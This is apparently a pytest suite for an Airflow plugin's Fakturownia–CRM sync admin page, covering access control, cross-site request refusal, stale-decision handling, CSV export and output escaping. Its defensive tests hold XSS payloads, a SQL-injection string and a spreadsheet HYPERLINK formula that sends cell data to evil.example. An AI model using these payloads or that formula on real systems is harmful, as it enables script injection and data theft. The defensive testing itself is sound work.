"""The integration page in a real api-server: who may see it and act on it, what it shows from a seeded state,
and what its actions store. Plain HTTP (requests); the browser tests are in test_ui_browser.py."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from html import unescape
from pathlib import Path
from urllib.parse import urljoin

import pytest
import requests
from sqlalchemy import select, update

from fakturownia_sync.config import SyncConfig
from fakturownia_sync.integration_check import build_report, not_connected
from fakturownia_sync.state import StateStore
from fakturownia_sync.state.schema import client_review, invoice_deals
from fakturownia_sync_airflow.ui.routes import PAGE_API_POLICY
from tests.airflow_harness import AIRFLOW, ROOT
from tests.ui_harness import ADMIN, PAGE_PATH, VIEWER, UiServer, decisions_by, ui_server


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, airflow_template: Path) -> Iterator[UiServer]:
    with ui_server(tmp_path_factory.mktemp("ui_page"), airflow_template) as running:
        yield running


def text_of(html: str) -> str:
    """The page's visible text, whitespace folded, for assertions about what a person reads."""
    without_tags = re.sub(r"<style.*?</style>|<[^>]+>", " ", html, flags=re.S)
    return re.sub(r"\s+", " ", unescape(without_tags))


def decision_form(html: str, subject: str, decision: str) -> dict[str, str]:
    """The hidden fields of the page's form that posts `decision` on the entry of `subject`, as a browser sends them."""
    block = html.split(f'data-subject="{subject}"', 1)[1].split('class="review-entry"', 1)[0]
    for form in re.findall(r"<form[^>]*>(.*?)</form>", block, flags=re.S):
        fields = {unescape(n): unescape(v) for n, v in re.findall(r'name="([^"]+)" value="([^"]*)"', form)}
        if fields.get("decision") == decision:
            return fields
    raise AssertionError(f"no {decision!r} form for {subject}")


def offers(html: str, subject: str, decision: str) -> bool:
    try:
        decision_form(html, subject, decision)
    except AssertionError:
        return False
    return True


def page_form(server: UiServer, user: str, subject: str, decision: str) -> dict[str, str]:
    return decision_form(server.session(user).get(server.page_url, timeout=60).text, subject, decision)


def test_anonymous_and_forged_requests_are_refused(server: UiServer) -> None:
    for method, path in (("GET", ""), ("GET", "review.csv"), ("POST", "review-decision"), ("POST", "quarantine-retry")):
        response = requests.request(method, server.page_url + path, data={"subject": "x"}, timeout=30)
        assert response.status_code == 401, (method, path, response.status_code)
    forged = requests.get(server.page_url, cookies={"_token": "not-a-jwt"}, timeout=30)
    assert forged.status_code in (401, 403)
    assert "Quarantine" not in forged.text


def test_the_webhook_route_is_not_behind_the_airflow_login(server: UiServer) -> None:
    """Fakturownia has no Airflow login: its webhook must reach the receiver, which checks its own token."""
    response = requests.post(f"{server.url}/fakturownia-sync/webhooks/fakturownia", json={}, timeout=30)
    assert response.status_code not in (401, 404), response.status_code


def test_page_shows_the_seeded_quarantine_review_runs_departments_and_users(server: UiServer) -> None:
    store = server.store()
    try:
        quarantined = store.open_quarantine_page()
        review = store.open_client_review()
    finally:
        store.close()
    assert quarantined and review  # the seed must give the page something to show
    response = server.session(ADMIN).get(server.page_url, timeout=60)
    assert response.status_code == 200, server.log_tail()
    html, text = response.text, text_of(response.text)
    assert f"Signed in as {ADMIN} · state DB sqlite:///{server.state_db}" in text
    for entry in quarantined:
        assert f'data-stream="{entry["stream"]}" data-record="{entry["record_id"]}"' in html
        assert entry["message"] in text
    assert {entry["reason"] for entry in quarantined} <= set(re.findall(r'<h3 id="reason-([a-z_]+)"', html))
    for entry in review:
        assert f'data-subject="{entry["subject"]}"' in html
        assert entry["message"] in text
    # both records side by side, and a link into each vendor's app built from the connections' accounts
    both = next(entry for entry in review if entry["fakturownia_record"] and entry["crm_record"])
    block = html.split(f'data-subject="{both["subject"]}"', 1)[1].split('class="review-entry"', 1)[0]
    assert both["fakturownia_record"]["name"] in unescape(block) and both["crm_record"]["name"] in unescape(block)
    assert f"{server.sandbox.fakturownia_url}/clients/{both['fakturownia_client_id']}" in block
    assert f"{server.sandbox.sugester_url}/app/clients/{both['crm_client_id']}" in block
    invoice = next(entry for entry in quarantined if entry["stream"] == "invoices_to_deals")
    assert f"{server.sandbox.fakturownia_url}/invoices/{invoice['record_id']}" in html
    # runs with their summaries, cursors with lags
    assert "fakturownia_clients_sync/seed" in text and "fakturownia_invoices_to_deals/seed" in text
    assert '<a href="../dags/fakturownia_invoices_to_deals" target="_top">' in html  # opens the DAG in the UI
    cursors = html.split("<h3>Cursors</h3>", 1)[1].split("</table>", 1)[0]
    for stream in ("clients_sync", "invoices_to_deals"):
        assert re.search(rf"<td>{stream}</td><td>[0-9-]+ [0-9:]+ UTC</td><td>\d+ (s|min)</td>", cursors), cursors
    # departments by name from both APIs, with the mapping state and the clients that use them
    departments = html.split('id="departments"', 1)[1].split('id="users"', 1)[0]
    f_names = {d["id"]: d["name"] for d in server.sandbox.dump("fakturownia")["departments"]}
    for name in f_names.values():
        assert name in unescape(departments)
    assert departments.count(">mapped<") == 2 * len(f_names)
    # the pairing table: login AND e-mail
    users = text_of(html.split('id="users"', 1)[1].split('id="check"', 1)[0])
    assert "paired anna.kowalczyk" in users
    assert "same login other email piotr.wisniewski" in users
    assert "only in fakturownia jan.nowak" in users
    assert "No check has run yet" in text
    for secret in (server.sandbox.fakturownia_token, server.sandbox.sugester_token, "passwords.json"):
        assert secret not in html


def test_viewer_may_look_but_not_act(server: UiServer) -> None:
    viewer = server.session(VIEWER)
    assert viewer.get(server.page_url, timeout=60).status_code == 200
    store = server.store()
    try:
        subject = store.open_client_review()[0]["subject"]
        entry = store.open_quarantine_page()[0]
    finally:
        store.close()
    refused = viewer.post(
        server.page_url + "review-decision", data=page_form(server, ADMIN, subject, "ignore"), timeout=30
    )
    assert refused.status_code == 403
    refused = viewer.post(
        server.page_url + "quarantine-retry",
        data={"stream": entry["stream"], "record_id": entry["record_id"]},
        timeout=30,
    )
    assert refused.status_code == 403
    store = server.store()
    try:
        assert decisions_by(store, VIEWER) == []
        assert store.open_quarantine_page()[0]["retry_requested_at"] is None
    finally:
        store.close()


def test_a_review_decision_is_stored_with_the_users_name_and_shown_in_the_audit(server: UiServer) -> None:
    store = server.store()
    try:
        entries = store.open_client_review()
    finally:
        store.close()
    admin = server.session(ADMIN)
    html = admin.get(server.page_url, timeout=60).text
    # the page offers "different" only for records not linked to each other
    entry = next(e for e in entries if offers(html, e["subject"], "different"))
    response = admin.post(
        server.page_url + "review-decision",
        data=decision_form(html, entry["subject"], "different"),
        allow_redirects=False,
        timeout=30,
    )
    assert response.status_code == 303
    assert urljoin(response.url, response.headers["location"]) == server.page_url + "?done=decided#review"
    store = server.store()
    try:
        [decision] = decisions_by(store, ADMIN)
    finally:
        store.close()
    assert (decision["subject"], decision["decision"], decision["applied_at"]) == (entry["subject"], "different", None)
    assert (decision["fakturownia_client_id"], decision["crm_client_id"]) == (
        entry["fakturownia_client_id"],
        entry["crm_client_id"],
    )
    page = text_of(admin.get(server.page_url + "?done=decided", timeout=60).text)
    assert "Decision stored; the next client sync applies it." in page
    assert f"Decided: they are different: create on the other side by {ADMIN}" in page
    assert re.search(rf"{re.escape(entry['subject'])} they are different: create on the other side .* {ADMIN} ", page)


def test_link_is_refused_for_records_the_entry_does_not_offer(server: UiServer) -> None:
    store = server.store()
    try:
        entry = next(e for e in store.open_client_review() if e["fakturownia_client_id"] and e["crm_client_id"])
        before = len(store.review_decision_audit())
    finally:
        store.close()
    ignore = page_form(server, ADMIN, entry["subject"], "ignore")
    response = server.session(ADMIN).post(
        server.page_url + "review-decision",
        data={
            **ignore,
            "decision": "link",
            "fakturownia_client_id": entry["fakturownia_client_id"],
            "crm_client_id": 999999,
        },
        timeout=30,
    )
    assert response.status_code == 400
    # another origin, or what a browser marks as sent from another site (a sibling subdomain, another site's
    # sandboxed frame whose Origin is "null"): refused whatever the cookie
    for headers in (
        {"Origin": "https://evil.example"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Origin": "null", "Sec-Fetch-Site": "cross-site"},
    ):
        cross_site = server.session(ADMIN).post(
            server.page_url + "review-decision", data=ignore, headers=headers, allow_redirects=False, timeout=30
        )
        assert cross_site.status_code == 403, headers
    quarantined = server.store()
    try:
        q_entry = quarantined.open_quarantine_page()[0]
    finally:
        quarantined.close()
    cross_site = server.session(ADMIN).post(
        server.page_url + "quarantine-retry",
        data={"stream": q_entry["stream"], "record_id": q_entry["record_id"]},
        headers={"Sec-Fetch-Site": "cross-site"},
        allow_redirects=False,
        timeout=30,
    )
    assert cross_site.status_code == 403
    # behind a proxy that rewrites Host, the browser's own post still names it same-origin: not refused
    proxied = server.session(ADMIN).post(
        server.page_url + "review-decision",
        data={**ignore, "evidence": "stale"},
        headers={"Origin": "https://airflow.example.pl", "Sec-Fetch-Site": "same-origin"},
        allow_redirects=False,
        timeout=30,
    )
    assert (proxied.status_code, proxied.headers.get("location")) == (303, "./?done=review_changed#review")
    store = server.store()
    try:
        assert len(store.review_decision_audit()) == before
        after = next(e for e in store.open_quarantine_page() if e["id"] == q_entry["id"])
        assert after["retry_requested_at"] is None
    finally:
        store.close()


def _set_review_entry(server: UiServer, subject: str, **values: object) -> None:
    store = server.store()
    try:
        with store.engine.begin() as conn:
            conn.execute(update(client_review).where(client_review.c.subject == subject).values(**values))
    finally:
        store.close()


def test_a_decision_on_an_entry_that_changed_after_the_page_showed_it_stores_nothing(server: UiServer) -> None:
    """A client sync may move an entry on while the page is open (the next look-alike not yet told apart, another
    reason): a click on what the page showed must not be stored as a decision about records nobody saw."""
    store = server.store()
    try:
        entries = [e for e in store.open_client_review() if e["fakturownia_client_id"] and e["crm_client_id"]]
        before = len(store.review_decision_audit())
    finally:
        store.close()
    admin = server.session(ADMIN)
    html = admin.get(server.page_url, timeout=60).text
    entry = next(e for e in entries if offers(html, e["subject"], "different"))
    shown = {d: decision_form(html, entry["subject"], d) for d in ("different", "ignore")}
    other = entry["crm_client_id"] + 424242
    _set_review_entry(server, entry["subject"], crm_client_id=other)  # what a client sync run does meanwhile
    try:
        for decision, form in shown.items():
            response = admin.post(server.page_url + "review-decision", data=form, allow_redirects=False, timeout=30)
            assert response.status_code == 303, (decision, response.text)
            assert response.headers["location"] == "./?done=review_changed#review"
        store = server.store()
        try:
            assert len(store.review_decision_audit()) == before  # nothing stored, least of all about `other`
        finally:
            store.close()
        page = text_of(admin.get(server.page_url + "?done=review_changed", timeout=60).text)
        assert "That review entry changed after the page showed it" in page
        # the page now shows the entry as it is, and a decision on that is stored
        fresh = page_form(server, ADMIN, entry["subject"], "different")
        assert fresh["evidence"] != shown["different"]["evidence"]
    finally:
        _set_review_entry(server, entry["subject"], crm_client_id=entry["crm_client_id"])


def test_they_are_different_is_offered_and_taken_only_for_a_pair_named_on_both_sides(server: UiServer) -> None:
    """A same-side duplicate or a record alone has no pair to tell apart: the sync could only refuse such a
    decision, so the page neither offers it nor stores it."""
    store = server.store()
    try:
        entries = store.open_client_review()
        before = len(store.review_decision_audit())
    finally:
        store.close()
    one_sided = [e for e in entries if e["fakturownia_client_id"] is None or e["crm_client_id"] is None]
    assert one_sided, "the seed must hold an entry naming one side only (a same-side duplicate)"
    admin = server.session(ADMIN)
    html = admin.get(server.page_url, timeout=60).text
    for entry in one_sided:
        assert not offers(html, entry["subject"], "different") and offers(html, entry["subject"], "ignore")
    assert any(offers(html, e["subject"], "different") for e in entries if e not in one_sided)
    forged = {**decision_form(html, one_sided[0]["subject"], "ignore"), "decision": "different"}
    response = admin.post(server.page_url + "review-decision", data=forged, allow_redirects=False, timeout=30)
    assert response.status_code == 400 and "names one side only" in response.text
    store = server.store()
    try:
        assert len(store.review_decision_audit()) == before
    finally:
        store.close()


def test_a_second_person_deciding_on_a_page_that_did_not_show_the_first_decision_stores_nothing(
    server: UiServer,
) -> None:
    """Two people open the page; one decides. The other's click, made without seeing that decision, must not
    silently replace it: they are sent back to the page, which now shows it, and decide again from there."""
    store = server.store()
    try:
        pending = {d["subject"] for d in store.pending_review_decisions()}
        entry = next(e for e in store.open_client_review() if e["subject"] not in pending)
        before = len(store.review_decision_audit())
    finally:
        store.close()
    admin = server.session(ADMIN)
    html = admin.get(server.page_url, timeout=60).text  # both people's page
    first, second = decision_form(html, entry["subject"], "ignore"), decision_form(html, entry["subject"], "ignore")
    assert first["seen_decision"] == ""
    decided = admin.post(server.page_url + "review-decision", data=first, allow_redirects=False, timeout=30)
    assert decided.headers["location"] == "./?done=decided#review"
    late = admin.post(server.page_url + "review-decision", data=second, allow_redirects=False, timeout=30)
    assert (late.status_code, late.headers["location"]) == (303, "./?done=review_decided_meanwhile#review")
    store = server.store()
    try:
        assert len(store.review_decision_audit()) == before + 1
    finally:
        store.close()
    page = admin.get(server.page_url + "?done=review_decided_meanwhile", timeout=60).text
    assert "Someone else decided on that review entry after the page showed it" in text_of(page)
    again = decision_form(page, entry["subject"], "ignore")
    assert again["seen_decision"] != ""  # the page shows the waiting decision, and a decision made seeing it stands
    replaced = admin.post(server.page_url + "review-decision", data=again, allow_redirects=False, timeout=30)
    assert replaced.headers["location"] == "./?done=decided#review"


def test_forged_and_junk_decisions_store_nothing(server: UiServer) -> None:
    store = server.store()
    try:
        entry = store.open_client_review()[0]
        before = len(store.review_decision_audit())
    finally:
        store.close()
    admin = server.session(ADMIN)
    form = page_form(server, ADMIN, entry["subject"], "ignore")
    gone = admin.post(
        server.page_url + "review-decision",
        data={**form, "subject": "crm:999999999"},
        allow_redirects=False,
        timeout=30,
    )
    assert (gone.status_code, gone.headers.get("location")) == (303, "./?done=review_gone#review")
    for junk in (
        {**form, "decision": "link", "fakturownia_client_id": "1; DROP TABLE client_links", "crm_client_id": "x"},
        {**form, "decision": "delete_everything"},
        {**form, "subject": "crm:" + "9" * 100_000},  # no subject is that long
        {**form, "evidence": ""},
        {"subject": entry["subject"], "decision": "ignore"},  # no evidence of what was shown
    ):
        response = admin.post(server.page_url + "review-decision", data=junk, allow_redirects=False, timeout=60)
        assert response.status_code in (400, 422), (junk.get("decision"), response.status_code, response.text[:200])
    for record_id in ("1" * 100_000, "1" * 10_000_000):  # 100 kB, 10 MB
        huge = admin.post(
            server.page_url + "quarantine-retry",
            data={"stream": "invoices_to_deals", "record_id": record_id},
            allow_redirects=False,
            timeout=60,
        )
        assert huge.status_code in (400, 422), huge.status_code
        huge = admin.post(
            server.page_url + "review-decision", data={**form, "subject": record_id}, allow_redirects=False, timeout=60
        )
        assert huge.status_code in (400, 422), huge.status_code
    store = server.store()
    try:
        assert len(store.review_decision_audit()) == before
    finally:
        store.close()
    assert admin.get(server.page_url, timeout=60).status_code == 200


def test_a_retry_on_an_entry_resolved_since_the_page_loaded_changes_nothing(server: UiServer) -> None:
    store = server.store()
    try:
        entry = store.open_quarantine_page()[1]
        store.resolve_quarantine(entry["stream"], entry["record_id"])  # a run processed it meanwhile
    finally:
        store.close()
    try:
        response = server.session(ADMIN).post(
            server.page_url + "quarantine-retry",
            data={"stream": entry["stream"], "record_id": entry["record_id"]},
            allow_redirects=False,
            timeout=30,
        )
        assert (response.status_code, response.headers["location"]) == (303, "./?done=retry_gone#quarantine")
        unknown = server.session(ADMIN).post(
            server.page_url + "quarantine-retry",
            data={"stream": "no_such_stream", "record_id": entry["record_id"]},
            allow_redirects=False,
            timeout=30,
        )
        assert unknown.status_code == 400
        store = server.store()
        try:
            assert entry["id"] not in {e["id"] for e in store.open_quarantine_page()}
        finally:
            store.close()
    finally:
        store = server.store()
        try:
            store.quarantine(
                entry["stream"], entry["record_id"], entry["reason"], entry["message"], entry["payload"], None
            )
        finally:
            store.close()


def test_quarantine_retry_is_asked_for_in_the_name_of_the_user(server: UiServer) -> None:
    store = server.store()
    try:
        entry = store.open_quarantine_page()[-1]
    finally:
        store.close()
    admin = server.session(ADMIN)
    response = admin.post(
        server.page_url + "quarantine-retry",
        data={"stream": entry["stream"], "record_id": entry["record_id"]},
        allow_redirects=False,
        timeout=30,
    )
    assert response.status_code == 303
    assert urljoin(response.url, response.headers["location"]) == server.page_url + "?done=retry#quarantine"
    store = server.store()
    try:
        after = next(e for e in store.open_quarantine_page() if e["record_id"] == entry["record_id"])
    finally:
        store.close()
    assert after["retry_requested_by"] == ADMIN and after["retry_requested_at"] is not None
    assert f"retry asked by {ADMIN}" in text_of(admin.get(server.page_url, timeout=60).text)


def test_the_review_list_downloads_as_the_exported_csv(server: UiServer) -> None:
    response = server.session(ADMIN).get(server.page_url + "review.csv", timeout=60)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert 'filename="client_review.csv"' in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    store = server.store()
    try:
        assert sorted(row["subject"] for row in rows) == sorted(e["subject"] for e in store.open_client_review())
    finally:
        store.close()


def test_the_latest_integration_check_is_shown_section_by_section(server: UiServer) -> None:
    """The report as the check DAG stores it (`build_report`): each section's title and findings, the checklist."""
    crm_down = "The CRM account <b>acme</b> did not answer"
    report = build_report(
        not_connected("Fakturownia", "Connection 'fakturownia_default' does not exist: create it."),
        not_connected("CRM", crm_down),
        SyncConfig(),
        webhook_url=None,
    )
    store = server.store()
    try:
        store.save_integration_check(report["ok"], report)
    finally:
        store.close()
    html = server.session(ADMIN).get(server.page_url, timeout=60).text
    check = html.split('id="check"', 1)[1]
    text = text_of(check)
    assert "problems found" in text
    for part in report["sections"]:
        assert part["title"] in text
        for finding in part["items"]:
            assert finding["text"] in text
    assert "Connection 'fakturownia_default' does not exist: create it." in text
    assert "The CRM account &lt;b&gt;acme&lt;/b&gt; did not answer" in check  # escaped, never markup
    for entry in report["checklist"]:
        assert entry["text"] in text and entry["fakturownia"] in text and entry["crm"] in text


def test_a_failing_api_shows_in_its_section_and_the_page_still_renders(server: UiServer) -> None:
    server.sandbox.set_faults("sugester", error_rate=1.0)
    try:
        response = server.session(ADMIN).get(server.page_url, timeout=120)
    finally:
        server.sandbox.set_faults("sugester", error_rate=0.0)
    assert response.status_code == 200
    departments = text_of(response.text.split('id="departments"', 1)[1].split('id="users"', 1)[0])
    assert "The CRM did not list its departments" in departments
    assert "Quarantine" in response.text and "data-subject=" in response.text


def test_airflow_lists_the_plugin_once(server: UiServer) -> None:
    listed = subprocess.run(
        [AIRFLOW, "plugins", "--output", "json"], env=server.env, capture_output=True, text=True, timeout=120, cwd=ROOT
    )
    assert listed.returncode == 0, listed.stderr[-2000:]
    names = re.findall(r'"name":\s*"([^"]+)"', listed.stdout)
    assert names.count("fakturownia_sync") == 1, listed.stdout[-2000:]
    assert PAGE_PATH.strip("/") in listed.stdout
    errors = requests.get(
        f"{server.url}/api/v2/plugins/importErrors",
        headers={"Authorization": f"Bearer {server.token(ADMIN)}"},
        timeout=30,
    )
    assert errors.status_code == 200 and errors.json()["total_entries"] == 0, errors.text


def test_the_page_is_listed_under_browse(server: UiServer) -> None:
    plugins = requests.get(
        f"{server.url}/api/v2/plugins", headers={"Authorization": f"Bearer {server.token(ADMIN)}"}, timeout=30
    ).json()["plugins"]
    [ours] = [plugin for plugin in plugins if plugin["name"] == "fakturownia_sync"]
    [view] = ours["external_views"]
    assert (view["category"], view["url_route"], view["href"]) == ("browse", "fakturownia-sync", "fakturownia-sync/")
    assert not Path(view["href"]).is_absolute()


def test_overview_counts_department_use_on_both_databases(store: StateStore) -> None:
    """The department counts read JSON inside the mirror and the link snapshots: SQLite and PostgreSQL alike."""
    store.save_fakturownia_clients(
        [({"id": 1, "department_id": 11}, None), ({"id": 2, "department_id": 11}, None), ({"id": 3}, None)]
    )
    store.link_clients(1, 101, "nip", {"fakturownia": {"department_id": 11}, "crm": {"department_id": 2}})
    store.link_clients(3, 103, "email", {"fakturownia": {"department_id": None}, "crm": {"department_id": None}})
    store.link_clients(2, 102, "created", None)
    assert store.department_usage() == {"fakturownia": {11: 2, None: 1}, "crm": {2: 1, None: 1}}
    assert store.link_deal(7001, 8001, None, None) and store.link_deal(7002, 8002, "h", None)
    assert store.invoices_of_deals([8001, 8002, 8003]) == {8001: 7001, 8002: 7002}
    assert store.crm_clients_linked_to([1, 2, 9]) == {1: 101, 2: 102}
    assert store.fakturownia_clients_linked_to([103, 104]) == {103: 3}


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")'
HOSTILE = ("<script>alert(1)</script>", '"><img src=x onerror=alert(2)>', "'><svg onload=alert(3)>")


def test_hostile_names_messages_and_payloads_are_shown_as_text(server: UiServer) -> None:
    """Anyone who can name a client or number an invoice in either system writes into this page: what they wrote
    must come out as text, in cells, attributes and links alike."""
    script, img, svg = HOSTILE
    store = server.store()
    try:
        store.quarantine(
            "invoices_to_deals",
            "990001",
            "invalid_record",
            f"buyer {img}",
            {"number": script, "buyer_name": svg, "client_id": img},
            None,
        )
        with store.engine.begin() as conn:
            conn.execute(
                client_review.insert().values(
                    subject="crm:990002",
                    reason="possible_duplicate",
                    message=f"looks like {svg}",
                    fakturownia_client_id=None,
                    crm_client_id=990002,
                    crm_record={"id": 990002, "name": script, "city": img, "email": svg, "tax_no": FORMULA},
                    suggestions=[{"side": "fakturownia", "id": 990003, "name": img, "evidence": script}],
                    first_seen_at=datetime.now(UTC),
                    last_seen_at=datetime.now(UTC),
                )
            )
        html = server.session(ADMIN).get(server.page_url, timeout=60).text
        text = text_of(html)
        for value in HOSTILE:
            assert value not in html
            assert value in text  # shown, as text
        assert "<img" not in html and "<svg" not in html and "<script" not in html
        # and were one ever to slip through, the page's policy lets no script run and nothing load from elsewhere
        policy = server.session(ADMIN).get(server.page_url, timeout=60).headers["content-security-policy"]
        assert "default-src 'none'" in policy and "script-src" not in policy and "frame-ancestors 'self'" in policy
        review = page_form(server, ADMIN, "crm:990002", "ignore")
        assert review["subject"] == "crm:990002"
        download = server.session(ADMIN).get(server.page_url + "review.csv", timeout=60).content.decode("utf-8")
        [row] = [r for r in csv.DictReader(io.StringIO(download)) if r["subject"] == "crm:990002"]
        assert row["crm_name"] == script and row["crm_tax_no"] == "'" + FORMULA  # a spreadsheet shows it as text
    finally:
        with store.engine.begin() as conn:
            conn.execute(client_review.delete().where(client_review.c.subject == "crm:990002"))
        store.resolve_quarantine("invoices_to_deals", "990001")
        store.close()


def test_quarantined_deals_link_to_the_deal_and_its_invoice(server: UiServer) -> None:
    """A deal → invoice entry opens the deal in the CRM and, where the deal has one, its invoice in Fakturownia
    (read for the whole page at once)."""
    store = server.store()
    try:
        with store.engine.connect() as conn:
            pairs = conn.execute(select(invoice_deals.c.invoice_id, invoice_deals.c.deal_id).limit(40)).all()
        assert len(pairs) >= 20, "the seed must link some invoices to deals"
        for _invoice_id, deal_id in pairs:
            store.quarantine(
                "deals_to_invoices", deal_id, "invalid_record", "deal without a buyer", {"id": deal_id}, None
            )
    finally:
        store.close()
    try:
        html = server.session(ADMIN).get(server.page_url, timeout=60).text
        for invoice_id, deal_id in pairs:
            row = html.split(f'data-stream="deals_to_invoices" data-record="{deal_id}"', 1)[1].split("</tr>", 1)[0]
            assert f"{server.sandbox.sugester_url}/app/deals/{deal_id}" in row
            assert f'{server.sandbox.fakturownia_url}/invoices/{invoice_id}" target="_blank"' in row
            assert "its invoice in Fakturownia" in row
    finally:
        store = server.store()
        try:
            for _invoice_id, deal_id in pairs:
                store.resolve_quarantine("deals_to_invoices", deal_id)
        finally:
            store.close()


def _move_state_db(server: UiServer, aside: Path) -> None:
    aside.mkdir(exist_ok=True)
    for db_file in server.state_db.parent.glob(server.state_db.name + "*"):
        db_file.rename(aside / db_file.name)


def _restore_state_db(server: UiServer, aside: Path) -> None:
    if server.state_db.is_dir():
        server.state_db.rmdir()
    for db_file in server.state_db.parent.glob(server.state_db.name + "*"):
        db_file.unlink()
    for db_file in aside.iterdir():
        db_file.rename(server.state_db.parent / db_file.name)


def test_the_page_opens_on_a_fresh_and_on_a_broken_state_db(server: UiServer, tmp_path: Path) -> None:
    """A fresh install (no state DB yet) shows empty sections; a state DB that cannot be opened shows why, and
    the actions and the CSV answer that nothing was stored instead of failing with a 500."""
    admin, aside = server.session(ADMIN), tmp_path / "state-aside"
    _move_state_db(server, aside)
    try:
        fresh = admin.get(server.page_url, timeout=60)
        assert fresh.status_code == 200, server.log_tail()
        text = text_of(fresh.text)
        for empty in ("No sync has run yet.", "Nothing is quarantined.", "The review list is empty.", "No check"):
            assert empty in text
        assert list(csv.reader(io.StringIO(admin.get(server.page_url + "review.csv", timeout=60).text)))[1:] == []
        for db_file in server.state_db.parent.glob(server.state_db.name + "*"):
            db_file.unlink()
        server.state_db.mkdir()  # where the SQLite file should be: it cannot be opened
        broken = admin.get(server.page_url, timeout=60)
        assert broken.status_code == 200, server.log_tail()
        assert "the state DB: " in text_of(broken.text)
        for method, path, data in (
            ("POST", "quarantine-retry", {"stream": "invoices_to_deals", "record_id": "1"}),
            ("POST", "review-decision", {"subject": "crm:1", "decision": "ignore", "evidence": "x"}),
            ("GET", "review.csv", None),
        ):
            response = admin.request(method, server.page_url + path, data=data, allow_redirects=False, timeout=60)
            assert response.status_code == 503, (path, response.status_code, response.text[:200])
            assert "The state DB could not be opened: nothing was read or stored." in response.text
    finally:
        _restore_state_db(server, aside)
    assert admin.get(server.page_url, timeout=60).status_code == 200


def test_with_both_apis_hanging_the_page_waits_for_the_slowest_read_not_for_all_of_them(server: UiServer) -> None:
    """Each API read of the page gives up after PAGE_API_POLICY's deadline (about 15 s); the three reads (each
    system's departments, the CRM's users) run together, so two hanging APIs cost one deadline, not three."""
    server.sandbox.set_faults(None, latency_ms=60_000)
    try:
        started = time.monotonic()
        response = server.session(ADMIN).get(server.page_url, timeout=120)
        took = time.monotonic() - started
    finally:
        server.sandbox.set_faults(None, latency_ms=0)
    assert response.status_code == 200, server.log_tail()
    text = text_of(response.text)
    assert "Fakturownia did not list its departments" in text and "The CRM did not list its departments" in text
    assert "users: " in text.split("Users", 1)[1]
    assert "data-subject=" in response.text  # the state DB's sections are all there
    assert took < PAGE_API_POLICY.max_total_seconds * 2, took
